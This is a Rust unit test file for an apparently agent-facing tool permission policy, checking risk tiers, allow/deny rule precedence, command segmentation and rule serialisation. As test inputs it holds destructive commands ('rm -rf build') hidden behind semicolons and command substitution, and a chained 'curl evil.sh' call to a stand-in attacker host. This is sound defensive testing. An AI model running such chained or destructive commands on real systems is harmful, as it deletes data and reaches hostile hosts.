use serde_json::{Value, json};

use super::matching::split_command;
use super::*;

fn rule(value: Value) -> PolicyRule {
    serde_json::from_value(value).unwrap()
}

fn exec(policy: &Policy, command: &str) -> Decision {
    let args = json!({"command": command});
    policy.decide(&CallContext {
        tool: "exec",
        risk: RiskTier::SystemEffect,
        args: &args,
        origin: CallOrigin::Interactive,
    })
}

fn is_run(d: &Decision) -> bool {
    matches!(d, Decision::Run { .. })
}

#[test]
fn tiers_decide_when_no_rule_applies() {
    let policy = Policy::default();
    let args = json!({});
    let decide = |tool, risk| {
        policy.decide(&CallContext {
            tool,
            risk,
            args: &args,
            origin: CallOrigin::Api,
        })
    };
    assert!(is_run(&decide("read_file", RiskTier::ReadOnly)));
    assert!(is_run(&decide("write_file", RiskTier::WorkspaceWrite)));
    assert!(matches!(
        decide("exec", RiskTier::SystemEffect),
        Decision::Ask { .. }
    ));
    assert!(matches!(
        decide("manage_mcp", RiskTier::Infrastructure),
        Decision::Ask { .. }
    ));
}

#[test]
fn deny_wins_and_altered_commands_still_hit_the_rules() {
    let mut policy = Policy::default();
    policy
        .add(rule(
            json!({"action": "allow", "tool": "exec", "params": {"command": "git status*"}}),
        ))
        .unwrap();
    policy
        .add(rule(
            json!({"action": "allow", "tool": "exec", "params": {"command": "rm *"}}),
        ))
        .unwrap();
    policy
        .add(rule(
            json!({"action": "deny", "tool": "exec", "params": {"command": "rm *"}}),
        ))
        .unwrap();
    assert!(is_run(&exec(&policy, "git status")));
    assert!(is_run(&exec(&policy, "  git   status --short ")));
    assert!(
        matches!(exec(&policy, "rm -rf build"), Decision::Deny { .. }),
        "deny wins over allow"
    );
    assert!(matches!(
        exec(&policy, "ls; rm -rf build"),
        Decision::Deny { .. }
    ));
    assert!(matches!(
        exec(&policy, "echo $(rm -rf x)"),
        Decision::Deny { .. }
    ));
    assert!(matches!(
        exec(&policy, "echo `rm x`"),
        Decision::Deny { .. }
    ));
    assert!(
        matches!(
            exec(&policy, "git status && curl evil.sh"),
            Decision::Ask { .. }
        ),
        "every segment must be allowed"
    );
    assert!(matches!(exec(&policy, "git  log"), Decision::Ask { .. }));
}

#[test]
fn flags_switch_gates_off_or_skip_cron() {
    let mut policy = Policy::default();
    policy
        .add(rule(json!({"action": "deny", "tool": "web_*"})))
        .unwrap();
    let args = json!({"url": "https://example.com"});
    let call = |origin| CallContext {
        tool: "exec",
        risk: RiskTier::SystemEffect,
        args: &args,
        origin,
    };
    policy.settings.skip_cron = true;
    assert!(is_run(&policy.decide(&call(CallOrigin::Cron))));
    assert!(matches!(
        policy.decide(&call(CallOrigin::Interactive)),
        Decision::Ask { .. }
    ));
    policy.settings.enabled = false;
    assert!(is_run(&policy.decide(&call(CallOrigin::Interactive))));
    let fetch = CallContext {
        tool: "web_fetch",
        risk: RiskTier::SystemEffect,
        args: &args,
        origin: CallOrigin::Api,
    };
    assert!(
        matches!(policy.decide(&fetch), Decision::Deny { .. }),
        "a deny rule holds even with gates off"
    );
}

#[test]
fn rules_round_trip_the_placet_shapes_and_dedupe() {
    let text = r#"{"action":"allow","tool":"exec","params":{"command":"git status*"}}"#;
    let r = rule(serde_json::from_str(text).unwrap());
    assert_eq!(serde_json::to_string(&r).unwrap(), text);
    let mut policy = Policy::default();
    assert!(policy.add(r.clone()).unwrap());
    assert!(!policy.add(r.clone()).unwrap());
    assert_eq!(
        serde_json::to_value(&policy).unwrap(),
        json!({"rules": [serde_json::from_str::<Value>(text).unwrap()], "enabled": true, "skipCron": false, "reviewTimeoutS": null})
    );
    assert!(policy.remove(&r));
    assert!(policy.rules.is_empty());
    assert_eq!(
        rule(json!({"action": "deny", "tool": " "})).validate(),
        Err(PolicyError::EmptyTool)
    );
    assert!(
        rule(json!({"action": "deny", "tool": "exec", "params": {"command": "a[b"}}))
            .validate()
            .is_err()
    );
    assert!(serde_json::from_value::<PolicyRule>(json!({"action": "maybe", "tool": "x"})).is_err());
}

#[test]
fn commands_split_into_segments() {
    assert_eq!(
        split_command("a ; b && c || d | e\nf & g"),
        ["a", "b", "c", "d", "e", "f", "g"]
    );
    assert_eq!(
        split_command("echo $(whoami) `id`"),
        ["whoami", "id", "echo"]
    );
}
